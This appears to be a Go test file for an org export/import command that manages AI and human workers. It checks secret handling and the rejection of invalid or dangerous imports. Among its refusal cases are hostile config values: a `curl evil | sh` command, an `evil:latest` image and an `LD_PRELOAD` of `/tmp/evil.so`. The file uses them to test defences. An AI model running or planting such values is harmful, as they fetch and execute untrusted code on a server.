package main

import (
	"encoding/json"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/helixml/helix-org/agent"
	"github.com/helixml/helix-org/dispatch"
	"github.com/helixml/helix-org/domain"
	"github.com/helixml/helix-org/store"
	"github.com/helixml/helix-org/tools"
	"github.com/helixml/helix-org/transports/email"
	"github.com/helixml/helix-org/transports/github"
	"github.com/helixml/helix-org/transports/webhook"
)

const exportHookSecret = "whsec_c2VjcmV0LXNlY3JldC1zZWNyZXQ="

// fullOrg builds an org holding every kind of record the export knows:
// roles (one with front matter of its own, one made by a worker), a
// reports-to chain, human, AI and dismissed workers, grants with and
// without expiry and giver and one that waits for approval, streams of
// every transport (a webhook secret among them), an activation log, an
// inbox and a DM, subscriptions, a skill with a failed and a working
// version, insights (a corrected one, a link), budgets of a worker and
// of the org, a human's contact channel, and config with a secret.
func fullOrg(t *testing.T, db string) {
	t.Helper()
	st := openStore(t, db)
	ctx := t.Context()
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	_, err := st.Bootstrap(ctx, tools.Names())
	must(err)
	_, err = st.CreateRole(ctx, store.OwnerWorker, domain.Role{ID: "r-lead", Title: "Lead", Content: "# Lead\n\nRun the team.\n"})
	must(err)
	_, err = st.CreatePosition(ctx, store.OwnerWorker, domain.Position{ID: "p-lead", RoleID: "r-lead", Title: "Lead"})
	must(err)
	_, err = st.HireWorker(ctx, store.OwnerWorker, domain.Worker{ID: "w-lead", Kind: domain.WorkerHuman, PositionID: "p-lead", Name: "Lena Lead",
		Identity: "Lena.\n\nLikes: lists.\n"}, []string{"create_role", "create_position", "hire_worker", "grant_tool", "publish", "dm"})
	must(err)
	_, err = st.CreateRole(ctx, "w-lead", domain.Role{ID: "r-dev", Title: "Dev: \"quoted\"",
		Content: "---\nbash: true\n---\n# Dev\n\nWrite code.\n---\nNot front matter.\n"})
	must(err)
	_, err = st.CreatePosition(ctx, "w-lead", domain.Position{ID: "p-dev", RoleID: "r-dev", Title: "Dev 1"})
	must(err)
	_, err = st.HireWorker(ctx, "w-lead", domain.Worker{ID: "w-dev", Kind: domain.WorkerAI, PositionID: "p-dev", Name: "Dev"}, []string{"publish"})
	must(err)
	_, err = st.HireWorker(ctx, "w-lead", domain.Worker{ID: "w-gone", Kind: domain.WorkerAI, PositionID: "p-dev", Name: "Gone"}, nil)
	must(err)
	_, err = st.DismissWorker(ctx, "w-lead", "w-gone")
	must(err)
	exp := st.Now().Add(24 * time.Hour)
	_, err = st.GrantTool(ctx, "w-lead", domain.Grant{WorkerID: "w-dev", Tool: "dm", ExpiresAt: &exp})
	must(err)
	for _, s := range []domain.Stream{
		{ID: "s-inbox", Name: "inbox", Description: "Where requests arrive.\nSecond line.", Transport: domain.Transport{Kind: domain.TransportLocal}},
		{ID: "s-hooks", Name: "hooks", Transport: domain.Transport{Kind: webhook.Kind,
			Config: json.RawMessage(`{"secret":"` + exportHookSecret + `","outbound_url":"https://example.com/in"}`)}},
		{ID: "s-mail", Name: "mail", Transport: domain.Transport{Kind: email.Kind, Config: json.RawMessage(`{"alias":"team"}`)}},
		{ID: "s-gh", Name: "gh", Transport: domain.Transport{Kind: github.Kind, Config: json.RawMessage(`{"repo":"o/r","events":["issues","push"]}`)}},
	} {
		_, err = st.CreateStream(ctx, store.OwnerWorker, s)
		must(err)
	}
	_, err = st.Subscribe(ctx, store.OwnerWorker, "s-inbox", "w-lead", "w-dev", store.OwnerWorker)
	must(err)
	_, err = st.Subscribe(ctx, store.OwnerWorker, "s-hooks", "w-dev")
	must(err)
	_, err = st.EnsureDM(ctx, "w-lead", "w-dev")
	must(err)
	_, err = st.Notify(ctx, "w-lead", domain.Message{Subject: "hello", Body: "an incident"}, "")
	must(err)
	_, err = st.SaveSkill(ctx, "w-dev", domain.Skill{Name: "shout", Description: "Upper-case text.", InputSchema: json.RawMessage(`{"type":"object","properties":{"text":{"type":"string"}}}`),
		Template: domain.SkillTemplateShell, Version: 2, Status: domain.SkillReady, Image: "img:v2", Container: "c2", CreatedBy: "w-dev"})
	must(err)
	for _, v := range []domain.SkillVersion{
		{Name: "shout", Version: 1, Status: domain.VersionFailed, Error: "build failed: exit 1", Description: "Upper-case text.",
			InputSchema: json.RawMessage(`{"type":"object"}`), Template: domain.SkillTemplateShell, Files: map[string]string{"handler.sh": "exit 1\n"}, CreatedBy: "w-dev", BuildLog: "log 1"},
		{Name: "shout", Version: 2, Status: domain.VersionOK, Description: "Upper-case text.",
			InputSchema: json.RawMessage(`{"type":"object","properties":{"text":{"type":"string"}}}`), Template: domain.SkillTemplateShell,
			Files:     map[string]string{"handler.sh": "tr a-z A-Z\n", "lib/util.sh": "# util\n"},
			Examples:  []domain.SkillExample{{Input: json.RawMessage(`{"text":"hi"}`), Output: json.RawMessage(`"HI"`)}},
			CreatedBy: "w-dev", BuildLog: "log 2"},
	} {
		must(st.SaveSkillVersion(ctx, v))
	}
	_, err = st.GrantTool(ctx, "w-lead", domain.Grant{WorkerID: "w-dev", Tool: "create_role", Approval: domain.ApprovalRequired})
	must(err)
	old, err := st.StoreInsight(ctx, "w-lead", domain.Insight{Trigger: "deploy on friday", Resolution: "wait", Type: domain.InsightPreference,
		Scope: domain.ScopeOrg, Tags: []string{"ops"}}, 0.5)
	must(err)
	_, err = st.CorrectInsight(ctx, "w-lead", old.ID, store.InsightPatch{Resolution: "wait until monday", Reason: "clearer"})
	must(err)
	tip, err := st.StoreInsight(ctx, "w-lead", domain.Insight{Trigger: "a test fails", Resolution: "read its log first", Type: domain.InsightPattern,
		Scope: domain.ScopeRole, Target: "r-lead"}, 0.5)
	must(err)
	must(st.LinkInsights(ctx, "w-lead", domain.InsightLink{From: tip.ID, To: old.ID, Kind: domain.LinkLedTo}))
	for _, b := range []domain.Budget{
		{Scope: domain.BudgetWorker, Target: "w-dev", Window: domain.BudgetDay, Hard: domain.Limit{Tokens: 200000, Money: domain.USD(2.5)},
			Soft: domain.Limit{Tokens: 160000, Money: domain.USD(2)}},
		{Scope: domain.BudgetOrg, Window: domain.BudgetMonth, Hard: domain.Limit{Money: domain.USD(100.125)}, Soft: domain.Limit{Money: domain.USD(80.1)}},
	} {
		_, err = st.SetBudget(ctx, store.OwnerWorker, b)
		must(err)
	}
	_, err = st.SetContact(ctx, "w-lead", "w-lead", store.Contact{Kind: "email", Address: "lena@example.com"})
	must(err)
	must(st.SetSetting(ctx, dispatch.MaxConcurrentSetting, "8"))
	must(st.SetSetting(ctx, agent.BashSetting, `{"roles":["r-dev"]}`))
	must(st.SetSetting(ctx, agent.APIKeySetting, secret))
	must(st.SetSetting(ctx, email.ConfigSetting, `{"server_token":"pm-token","from":"a@example.com"}`))
}

// tree reads every file under dir, by its path below dir.
func tree(t *testing.T, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		b, err := os.ReadFile(path)
		rel, _ := filepath.Rel(dir, path)
		out[rel] = string(b)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// TestExportImportExport: export → import into a new database → export
// gives the same bytes; secrets are nowhere in the export, are listed, and
// come back only from the secrets file.
func TestExportImportExport(t *testing.T) {
	db := newDB(t)
	fullOrg(t, db)
	first := filepath.Join(t.TempDir(), "org")
	out := mustRun(t, "export", first, "--db", db)
	wantOut := "exported the org to " + first + "\nsecrets left out (see " + first + "/README.txt):\n" +
		"  - stream s-hooks (webhook): transport config field \"secret\"\n  - config agent.api_key\n  - config transport.postmark\n"
	if diff := cmp.Diff(wantOut, out); diff != "" {
		t.Errorf("export output (-want +got):\n%s", diff)
	}
	files := tree(t, first)
	var names []string
	for name, content := range files {
		names = append(names, name)
		for _, s := range []string{exportHookSecret, secret, "pm-token"} {
			if strings.Contains(content, s) {
				t.Errorf("%s holds a secret", name)
			}
		}
	}
	for _, want := range []string{"README.txt", "roles/r-owner.md", "roles/r-dev.md", "positions.yaml", "workers/w-gone.md", "grants.yaml",
		"streams.yaml", "subscriptions.yaml", "config.yaml", "skills/shout/skill.yaml", "skills/shout/v1/version.yaml",
		"skills/shout/v2/files/lib/util.sh", "skills/shout/v2/examples.json", "skills/shout/v2/input-schema.json",
		"insights.yaml", "budgets.yaml", "contacts.yaml"} {
		if _, ok := files[want]; !ok {
			t.Errorf("the export has no %s; it has %v", want, names)
		}
	}
	if got := files["roles/r-dev.md"]; !strings.HasPrefix(got, "---\nid: r-dev\ntitle: 'Dev: \"quoted\"'\ncreatedBy: w-lead\n") ||
		!strings.HasSuffix(got, "---\n---\nbash: true\n---\n# Dev\n\nWrite code.\n---\nNot front matter.\n") {
		t.Errorf("roles/r-dev.md:\n%s", got)
	}
	if !strings.Contains(files["README.txt"], "SECRETS ARE NEVER EXPORTED") {
		t.Errorf("README.txt does not say secrets are never exported:\n%s", files["README.txt"])
	}

	secrets := filepath.Join(t.TempDir(), "secrets.json")
	os.WriteFile(secrets, []byte(`{"streams":{"s-hooks":{"secret":"`+exportHookSecret+`"}},
		"config":{"agent.api_key":"`+secret+`","transport.postmark":"{\"server_token\":\"pm-token\",\"from\":\"a@example.com\"}"}}`), 0o600)
	db2 := tempDB(t)
	out = mustRun(t, "import", first, "--init", "--db", db2, "--secrets", secrets, "--allow-exec-settings") // agent.bash
	// The owner holds every tool; the rest of the org holds 11 grants.
	wantOut = "imported " + first + " into " + db2 + ": 2 budgets, 1 contacts, " + fmt.Sprint(len(tools.Names())+11) + " grants, 1 insight links, 3 insights, " +
		"3 positions, 3 roles, 4 settings, 2 skill versions, 1 skills, 10 streams, 11 subscriptions, 4 workers, recorded on s-org\n"
	if diff := cmp.Diff(wantOut, out); diff != "" {
		t.Errorf("import output (-want +got):\n%s", diff)
	}

	second := filepath.Join(t.TempDir(), "org")
	mustRun(t, "export", second, "--db", db2)
	if diff := cmp.Diff(files, tree(t, second)); diff != "" {
		t.Errorf("export → import → export differs (-first +second):\n%s", diff)
	}

	st := openStore(t, db2)
	if creator, err := st.RoleCreator(t.Context(), "r-dev"); err != nil || creator != "w-lead" {
		t.Errorf("r-dev's creator after import = %q, %v", creator, err)
	}
	if s, err := st.StreamWithSecrets(t.Context(), "s-hooks"); err != nil || !strings.Contains(string(s.Transport.Config), exportHookSecret) {
		t.Errorf("s-hooks after import = %s, %v; want the secret from the secrets file", s.Transport.Config, err)
	}
	if sk, err := st.GetSkill(t.Context(), "shout"); err != nil || sk.Status != domain.SkillFailed || !strings.Contains(sk.Error, "create_skill") {
		t.Errorf("the imported skill = %+v, %v; want failed until built again", sk, err)
	}
	if bs, err := st.ExportBudgets(t.Context()); err != nil || len(bs) != 2 || bs[0].Scope != domain.BudgetOrg || bs[0].Hard.Money != domain.USD(100.125) ||
		bs[1].Target != "w-dev" || bs[1].Soft.Tokens != 160000 {
		t.Errorf("budgets after import = %+v, %v", bs, err)
	}
	if cs, err := st.ExportContacts(t.Context()); err != nil || len(cs) != 1 || cs[0].Worker != "w-lead" || cs[0].Address != "lena@example.com" {
		t.Errorf("contacts after import = %+v, %v", cs, err)
	}
	if gs, err := st.ListGrants(t.Context(), "w-dev"); err != nil || !slices.ContainsFunc(gs, func(g domain.Grant) bool {
		return g.Tool == "create_role" && g.Approval == domain.ApprovalRequired
	}) {
		t.Errorf("w-dev's grants after import = %+v, %v; want create_role with approval required", gs, err)
	}
	if toks, _ := st.ListTokens(t.Context(), store.TokenQuery{All: true}); len(toks) != 0 {
		t.Errorf("the import brought tokens: %+v", toks)
	}
	if v, _, err := st.Setting(t.Context(), agent.APIKeySetting.Key); err != nil || v != secret {
		t.Errorf("agent.api_key after import = %q, %v; want the secrets file's", v, err)
	}

	// Without the config secrets, the import says what is still to set.
	os.WriteFile(secrets, []byte(`{"streams":{"s-hooks":{"secret":"`+exportHookSecret+`"}}}`), 0o600)
	db3 := tempDB(t)
	out = mustRun(t, "import", first, "--init", "--db", db3, "--secrets", secrets, "--allow-exec-settings")
	if want := "still to be set (secrets are never exported):\n  - config agent.api_key\n  - config transport.postmark\nset a config secret with: helix-org config set <key> -\n"; !strings.HasSuffix(out, want) {
		t.Errorf("import without config secrets:\n%s\nwant it to end with:\n%s", out, want)
	}
}

// TestImportRefusals: import writes nothing unless all of it can be
// written, and says why.
func TestImportRefusals(t *testing.T) {
	t.Parallel()
	db := newDB(t)
	fullOrg(t, db)
	dir := filepath.Join(t.TempDir(), "org")
	mustRun(t, "export", dir, "--db", db)
	secrets := func(body string) string {
		p := filepath.Join(t.TempDir(), "secrets.json")
		os.WriteFile(p, []byte(body), 0o600)
		return p
	}
	hooks := secrets(`{"streams":{"s-hooks":{"secret":"` + exportHookSecret + `"}}}`)
	// edited is a copy of the export with one file changed.
	edited := func(file string, edit func(string) string) func(t *testing.T) string {
		return func(t *testing.T) string {
			c := filepath.Join(t.TempDir(), "org")
			if err := os.CopyFS(c, os.DirFS(dir)); err != nil {
				t.Fatal(err)
			}
			b, err := os.ReadFile(filepath.Join(c, file))
			if err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(c, file), []byte(edit(string(b))), 0o600); err != nil {
				t.Fatal(err)
			}
			return c
		}
	}
	grant := func(worker, tool, by, extra string) func(t *testing.T) string {
		return edited("grants.yaml", func(s string) string {
			g := "- worker: " + worker + "\n  tool: " + tool + "\n"
			if by != "" {
				g += "  grantedBy: " + by + "\n"
			}
			return s + g + "  createdAt: \"2026-11-23T00:00:00Z\"\n" + extra
		})
	}
	trusted := []string{"--secrets", hooks, "--allow-exec-settings"}
	tests := []struct {
		name   string
		db     string
		export func(t *testing.T) string
		args   []string
		want   string
	}{
		{"into a database holding an org", db, nil, nil,
			"import: the database already holds an org (3 roles); import only into a new one (helix-org import --init --db <new file>): conflict"},
		{"without a stream's secret", "", nil, []string{"--allow-exec-settings"},
			"import: these stream secrets are not in the export and were not given (--secrets), and no tool can set them later:\n" +
				"  stream s-hooks (webhook): transport config field \"secret\"\n" +
				"give them in a secrets file (README.txt shows its form), or import without them (--without-stream-secrets)"},
		{"a secrets file naming what the export lacks", "", nil, []string{"--without-stream-secrets", "--secrets", secrets(`{"streams":{"s-typo":{"secret":"x"}}}`), "--allow-exec-settings"},
			"import: the secrets file names what the export holds no secret for: stream s-typo field secret"},
		{"a secret that fails validation", "", nil, []string{"--secrets", secrets(`{"streams":{"s-hooks":{"secret":"short"}}}`)},
			"import: streams: stream s-hooks: transport.config.secret: webhook secret must start with \"whsec_\""},
		{"a setting that runs code, without --allow-exec-settings", "", nil, []string{"--secrets", hooks},
			"import: config: config.yaml: agent.bash makes the server run code (" + agent.BashSetting.Description + "); an import applies such settings only with " +
				"--allow-exec-settings, when you trust the export — or remove it and set it yourself with helix-org config set"},
		{"agent.command, without --allow-exec-settings", "", edited("config.yaml", func(s string) string {
			return strings.Replace(s, "  agent.bash: '{\"roles\":[\"r-dev\"]}'\n", "  agent.command: sh -c 'curl evil | sh'\n", 1)
		}), []string{"--secrets", hooks}, "import: config: config.yaml: agent.command makes the server run code"},
		{"agent.runtime, without --allow-exec-settings", "", edited("config.yaml", func(s string) string {
			return strings.Replace(s, "  agent.bash: '{\"roles\":[\"r-dev\"]}'\n", "  agent.runtime: command\n", 1)
		}), []string{"--secrets", hooks}, "import: config: config.yaml: agent.runtime makes the server run code"},
		{"a docker image, without --allow-exec-settings", "", edited("config.yaml", func(s string) string {
			return strings.Replace(s, "  agent.bash: '{\"roles\":[\"r-dev\"]}'\n", "  agent.docker.image: evil:latest\n", 1)
		}), []string{"--secrets", hooks}, "import: config: config.yaml: agent.docker.image makes the server run code"},
		{"a secret setting that runs code, from the secrets file", "", edited("config.yaml", func(s string) string {
			return strings.Replace(s, "  agent.bash: '{\"roles\":[\"r-dev\"]}'\n", "", 1)
		}), []string{"--secrets", secrets(`{"streams":{"s-hooks":{"secret":"` + exportHookSecret + `"}},"config":{"agent.docker.env":"{\"LD_PRELOAD\":\"/tmp/evil.so\"}"}}`)},
			"import: config: secrets file: agent.docker.env makes the server run code"},
		{"a self-grant", "", grant("w-lead", "dismiss_worker", "w-lead", ""), trusted,
			"import: grants.yaml: the grant of dismiss_worker to w-lead (granted by w-lead): w-lead cannot grant to itself; a worker above it can"},
		{"a grant from a peer", "", grant("w-gone", "dm", "w-dev", ""), trusted,
			"import: grants.yaml: the grant of dm to w-gone (granted by w-dev): w-dev may only manage workers below p-dev; w-gone (p-dev) is not"},
		{"a grant of a tool the granter does not hold", "", grant("w-dev", "dismiss_worker", "w-lead", ""), trusted,
			"import: grants.yaml: the grant of dismiss_worker to w-dev (granted by w-lead): w-lead cannot grant \"dismiss_worker\" because it does not hold it"},
		{"a grant for longer than the granter's own", "", edited("grants.yaml", func(s string) string {
			lead := "- worker: w-lead\n  tool: dm\n  grantedBy: w-owner\n"
			return strings.Replace(s, lead, lead+"  expiresAt: \""+time.Now().Add(time.Hour).UTC().Format(time.RFC3339)+"\"\n", 1)
		}), trusted, "import: grants.yaml: the grant of dm to w-dev (granted by w-lead): it ends after w-lead's own grant of \"dm\" ("},
		{"a grant without approval of a tool the granter may use only with approval", "", edited("grants.yaml", func(s string) string {
			return strings.Replace(s, "- worker: w-lead\n  tool: publish\n  grantedBy: w-owner\n", "- worker: w-lead\n  tool: publish\n  grantedBy: w-owner\n  approval: required\n", 1)
		}), trusted, "import: grants.yaml: the grant of publish to w-dev (granted by w-lead): w-lead's own grant of \"publish\" waits for approval, so this one must too (approval: required)"},
		{"an unknown tool", "", grant("w-dev", "rm_rf", "w-owner", ""), trusted,
			"import: grants.yaml: the grant of rm_rf to w-dev (granted by w-owner): tool: unknown tool \"rm_rf\" (valid: the built-in tools and skill_<name> of the export's skills)"},
		{"a grant from the operator to someone other than the owner", "", grant("w-dev", "hire_worker", "", ""), trusted,
			"import: grants.yaml: the grant of hire_worker to w-dev (granted by the operator): only w-owner's grants come from the operator; name the worker who granted it"},
		{"a dismissed owner", "", edited("workers/w-owner.md", func(s string) string {
			return strings.Replace(s, "hiredAt:", "dismissedAt: \"2026-11-23T00:00:00Z\"\nhiredAt:", 1)
		}), trusted, "import: workers/w-owner.md: w-owner is dismissed; an org's owner cannot be (it is the operator's way in)"},
		{"not an export", "", func(t *testing.T) string { return t.TempDir() }, nil, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			target := tt.db
			if target == "" {
				target = tempDB(t)
			}
			from := dir
			if tt.export != nil {
				from = tt.export(t)
			}
			_, _, err := run(t, "", append([]string{"import", "--init", "--db", target, from}, tt.args...)...)
			if err == nil {
				t.Fatal("import succeeded")
			}
			if tt.want != "" && !strings.HasPrefix(err.Error(), tt.want) {
				t.Errorf("error = %v\nwant    %s", err, tt.want)
			}
			if tt.db == "" {
				if roles, _ := openStore(t, target).ListRoles(t.Context()); len(roles) != 0 {
					t.Errorf("a refused import wrote %d roles", len(roles))
				}
			}
		})
	}
	_, _, err := run(t, "", "export", dir, "--db", db)
	if want := "export to " + dir + ": the directory is not empty; choose a new one"; err == nil || err.Error() != want {
		t.Errorf("export into a full directory: %v, want %s", err, want)
	}
}
